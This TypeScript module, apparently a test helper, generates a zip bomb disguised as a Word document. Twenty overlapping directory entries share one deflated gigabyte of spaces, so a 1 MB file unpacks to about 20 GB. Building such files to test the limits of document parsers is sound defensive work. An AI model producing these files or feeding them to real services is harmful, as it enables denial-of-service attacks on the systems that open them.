// A Word file of 1 MB whose 20 parts are 1 GB each: all entries of its directory lead to the same bytes.
import { once } from 'node:events'
import { crc32, createDeflateRaw } from 'node:zlib'

const PARTS = [
  'document',
  'styles',
  'numbering',
  'settings',
  'footnotes',
  'endnotes',
  'comments',
  ...Array.from({ length: 6 }, (_, at) => `header${at + 1}`),
  ...Array.from({ length: 7 }, (_, at) => `footer${at + 1}`),
]
const SIZE = 1_000_000_000
const BLOCK = Buffer.alloc(1_000_000, ' ')

const PACKAGE = 'http://schemas.openxmlformats.org/package/2006'
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const START: Readonly<Record<string, string>> = {
  '[Content_Types].xml': `<Types xmlns="${PACKAGE}/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
  '_rels/.rels': `<Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="r1" Type="${OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>`,
}

export async function zipBomb(): Promise<Buffer> {
  const packed = await deflated()
  const files: {
    name: string
    offset: number
    data: Buffer
    size: number
    method: number
    crc: number
  }[] = []
  const body: Buffer[] = []
  let offset = 0
  const add = (
    name: string,
    data: Buffer,
    size: number,
    method: number,
    crc: number,
  ): void => {
    const header = Buffer.alloc(30)
    header.writeUInt32LE(0x04034b50, 0)
    header.writeUInt16LE(method, 8)
    header.writeUInt32LE(data.length, 18)
    header.writeUInt16LE(name.length, 26)
    files.push({ name, offset, data, size, method, crc })
    body.push(header, Buffer.from(name), data)
    offset += header.length + name.length + data.length
  }
  for (const [name, text] of Object.entries(START)) {
    const data = Buffer.from(text)
    add(name, data, data.length, 0, crc32(data))
  }
  add('word/document.xml', packed, SIZE, 8, 0)
  const [last] = files.slice(-1)
  for (const part of PARTS.slice(1)) {
    if (last) files.push({ ...last, name: `word/${part}.xml` })
  }
  const directory = files.flatMap((file) => {
    const entry = Buffer.alloc(46)
    entry.writeUInt32LE(0x02014b50, 0)
    entry.writeUInt16LE(file.method, 10)
    entry.writeUInt32LE(file.crc, 16)
    entry.writeUInt32LE(file.data.length, 20)
    entry.writeUInt32LE(file.size, 24)
    entry.writeUInt16LE(file.name.length, 28)
    entry.writeUInt32LE(file.offset, 42)
    return [entry, Buffer.from(file.name)]
  })
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(files.length, 8)
  end.writeUInt16LE(files.length, 10)
  end.writeUInt32LE(Buffer.concat(directory).length, 12)
  end.writeUInt32LE(offset, 16)
  return Buffer.concat([...body, ...directory, end])
}

async function deflated(): Promise<Buffer> {
  const packing = createDeflateRaw({ level: 9 })
  const parts: Buffer[] = []
  packing.on('data', (part: Buffer) => parts.push(part))
  for (let written = 0; written < SIZE; written += BLOCK.length) {
    if (!packing.write(BLOCK)) await once(packing, 'drain')
  }
  packing.end()
  await once(packing, 'end')
  return Buffer.concat(parts)
}
